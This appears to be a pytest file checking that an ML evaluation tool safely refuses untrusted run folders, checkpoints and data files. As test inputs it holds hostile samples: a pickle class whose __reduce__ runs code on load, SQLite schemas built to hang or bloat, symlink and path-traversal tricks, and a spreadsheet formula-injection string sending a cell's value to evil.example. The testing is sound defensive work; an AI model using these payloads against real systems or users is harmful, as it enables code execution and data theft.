"""What a run folder, a checkpoint or a name from elsewhere may hold."""

from __future__ import annotations

import io
import json
import pickle
import sqlite3
import time
import zipfile
from contextlib import closing
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import torch
from PIL import Image

from pairx import load_model
from pairx.errors import InputError
from pairx.evaluation import guarding
from pairx.evaluation.reading import open_run, run_state
from pairx.evaluation.store import Store
from pairx.sheets import csv_bytes
from pairx.testing import smooth_noise
from pairx.types import Explanation
from pairx.ui.shared.library import Library, Places
from tests.evaluation.made_up import scored, write_run


def png(seed: int = 0) -> bytes:
    file = io.BytesIO()
    Image.fromarray(smooth_noise(seed)).save(file, "PNG")
    return file.getvalue()


@pytest.fixture
def folder(tmp_path) -> Path:
    write_run(tmp_path / "runs" / "theirs")
    return tmp_path / "runs" / "theirs"


ENDLESS = "WITH RECURSIVE one(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM one) SELECT x, x FROM one"
SCHEMAS = {
    "view": f"CREATE VIEW settings AS {ENDLESS}",
    "trigger": "CREATE TABLE facts (name, value); CREATE TRIGGER t AFTER INSERT ON facts BEGIN DELETE FROM facts; END",
    "another table": "CREATE TABLE secrets (x)",
    "computed column": "CREATE TABLE settings (name, value AS (zeroblob(1000000000)))",
    "virtual table": "CREATE VIRTUAL TABLE settings USING fts4(name, value)",
}


@pytest.mark.parametrize("schema", SCHEMAS)
def test_a_database_that_is_no_runs_is_not_read_and_not_written(tmp_path, schema):
    with closing(sqlite3.connect(tmp_path / "run.sqlite")) as database:
        database.executescript(SCHEMAS[schema])
    begun = time.monotonic()
    assert "cannot be read" in run_state(tmp_path).problem
    with pytest.raises(InputError, match="no run can be kept there"):
        Store(tmp_path, {})
    assert time.monotonic() - begun < 2


def test_a_database_that_takes_long_is_given_up(tmp_path, monkeypatch):
    monkeypatch.setattr(guarding, "MOST_SECONDS", 0.2)
    with closing(sqlite3.connect(tmp_path / "x")) as database:
        database.execute("CREATE TABLE settings (name, value)")
    with guarding.looking_into(tmp_path / "x", ["settings"]) as database, pytest.raises(sqlite3.OperationalError):
        database.execute(f"SELECT count(*) FROM ({ENDLESS})").fetchone()


def spoilt(folder: Path, **columns: pa.Array) -> None:
    """Write the run's pairs anew with other columns."""
    table = pa.Table.from_pandas(scored(), preserve_index=False)
    for name, values in columns.items():
        table = table.set_column(table.column_names.index(name), name, values)
    pq.write_table(table, folder / "pairs.parquet")


TYPES = {
    "lists": {"cosine": pa.array([[0.5]] * 80)},
    "texts for numbers": {"cosine": pa.array(["0.5"] * 80)},
    "texts for truth": {"correct": pa.array(["False"] * 80)},
    "bytes for names": {"query_id": pa.array([b"\xff"] * 80)},
    "fractions for names": {"query_id": pa.array([1.5] * 80)},
    "structures": {"status": pa.array([{"a": 1}] * 80)},
    "long texts": {"status": pa.array(["x" * 10_000] * 80)},
}


@pytest.mark.parametrize("kind", TYPES)
def test_a_table_of_other_types_is_refused_in_a_line(folder, kind):
    spoilt(folder, **TYPES[kind])
    with pytest.raises(InputError, match=r"its pairs\.parquet h"):
        open_run(folder)


def test_a_table_of_many_rows_is_refused_unread(folder):
    rows = guarding.MOST_ROWS + 1
    names = pa.DictionaryArray.from_arrays(np.zeros(rows, np.int8), pa.array(["q"]))
    pq.write_table(pa.table({"query_id": names, "correct": np.ones(rows, bool)}), folder / "pairs.parquet")
    assert (folder / "pairs.parquet").stat().st_size < 100_000
    with pytest.raises(InputError, match="more than this can open"):
        open_run(folder)


def test_a_text_that_all_rows_share_does_not_unpack_to_more_than_memory(tmp_path):
    rows = 1_000_000
    one = pa.DictionaryArray.from_arrays(np.zeros(rows, np.int8), pa.array(["x" * 10**6]))  # 1 TB of text
    pq.write_table(pa.table({"query_id": one}), tmp_path / "x.parquet")
    with pytest.raises(guarding.Unfit, match="texts of more than"):
        guarding.read_table(tmp_path / "x.parquet")


@pytest.mark.parametrize(
    ("file", "values"),
    [
        ("settings.json", []), ("settings.json", {"dataset": {"$ref": "x"}, "model": "reid-lite0"}),
        ("settings.json", {"dataset": "cows", "model": ["x"]}), ("summary.json", {"layers": []}),
        ("summary.json", {"layers": {"stage": {"match_coverage": 5}}}), ("summary.json", {"status": {"ok": "many"}}),
    ],
    ids=str,
)  # fmt: skip
def test_values_of_other_kinds_are_refused_in_a_line(folder, file, values):
    known = json.loads((folder / file).read_text())
    (folder / file).write_text(json.dumps({**known, **values} if isinstance(values, dict) else values))
    with pytest.raises(InputError, match=f"its {file}"):
        open_run(folder)
    assert file in run_state(folder).problem


def test_values_that_nest_without_end_are_refused_in_a_line(folder):
    (folder / "settings.json").write_text("[" * 200_000 + "]" * 200_000)
    with pytest.raises(InputError, match="cannot be read"):
        open_run(folder)


def test_a_run_that_points_elsewhere_shows_no_photograph_to_others(folder, tmp_path):
    outside, inside = tmp_path / "private.png", tmp_path / "sets" / "shown.png"
    inside.parent.mkdir()
    for path in (outside, inside):
        path.write_bytes(png())
    (inside.parent / "link.png").symlink_to(outside)
    photographs = pd.read_parquet(folder / "photographs.parquet")
    paths = [str(outside), str(inside.parent / "link.png"), str(inside.parent / ".." / "private.png"), str(inside)]
    photographs.loc[:3, "path"] = paths
    photographs.to_parquet(folder / "photographs.parquet")
    ids = photographs["image_id"][:4].tolist()
    run = Library(Places(inside.parent, folder.parent, own_machine=False)).run("theirs")
    for id in ids[:3]:
        with pytest.raises(InputError, match="outside of this server's data sets"):
            run.photograph(id)
    assert run.photograph(ids[3])[0] == inside
    assert run.photograph(photographs["image_id"][9])[0].parent == folder, "beside the run"
    mine = Library(Places(None, folder.parent, own_machine=True)).run("theirs")
    assert mine.photograph(ids[0])[0] == outside


def test_links_that_leave_the_folders_are_not_followed_for_others(folder, tmp_path):
    runs, sets, elsewhere = folder.parent, tmp_path / "sets", tmp_path / "elsewhere"
    sets.mkdir()
    write_run(elsewhere)
    (runs / "linked").symlink_to(elsewhere)
    (folder / "pairs.parquet").unlink()
    (folder / "pairs.parquet").symlink_to(elsewhere / "pairs.parquet")
    (sets / "linked").symlink_to(elsewhere)
    others, mine = (Library(Places(sets, runs, own_machine=own)) for own in (False, True))
    for name in ("linked", "theirs"):
        with pytest.raises(InputError, match="leads out"):
            others.run(name)
        assert mine.run(name).layers == ["early", "stage"]
    assert [state.name for state in others.states()] == ["Sample herd"]
    with pytest.raises(InputError, match="leads out"):
        others.source("linked")
    assert mine.source("linked") == sets / "linked"


# Files that bring code along.


class Bomb:
    """Writes a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self):
        return Path.write_text, (self.path, "ran")


def test_a_checkpoint_with_code_is_refused_and_its_code_does_not_run(tmp_path):
    torch.save({"weight": Bomb(tmp_path / "ran")}, tmp_path / "bomb.pth")
    (tmp_path / "plain.pth").write_bytes(pickle.dumps(Bomb(tmp_path / "ran")))
    for name in ("bomb.pth", "plain.pth"):
        with pytest.raises(InputError):
            load_model("resnet18", weights=tmp_path / name)
    assert not (tmp_path / "ran").exists()


def test_values_with_code_are_refused_and_their_code_does_not_run(tmp_path):
    with zipfile.ZipFile(tmp_path / "bomb.npz", "w") as file:
        packed = io.BytesIO()
        np.lib.format.write_array(packed, np.array([Bomb(tmp_path / "ran")], object), allow_pickle=True)
        file.writestr("map0.npy", packed.getvalue())
    (tmp_path / "plain.npz").write_bytes(pickle.dumps(Bomb(tmp_path / "ran")))
    for name in ("bomb.npz", "plain.npz"):
        with pytest.raises(InputError):
            Explanation.load(tmp_path / name)
    assert not (tmp_path / "ran").exists()


# Names that are formulas.


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "＝", "＋", "－", "＠"])
def test_a_name_that_is_a_formula_is_text_in_a_csv(start):
    name = f'{start}HYPERLINK("http://evil.example?"&A1,"look")'
    table = pd.DataFrame({"query_id": [name, "plain"], name: [None, name], "delta": [-0.5, 2.0]})
    back = pd.read_csv(io.BytesIO(csv_bytes(table)))
    assert back["query_id"].tolist() == [f"'{name}", "plain"]
    assert list(back)[1] == f"'{name}" and back.iloc[1, 1] == f"'{name}"
    assert back["delta"].tolist() == [-0.5, 2.0], "numbers stay"
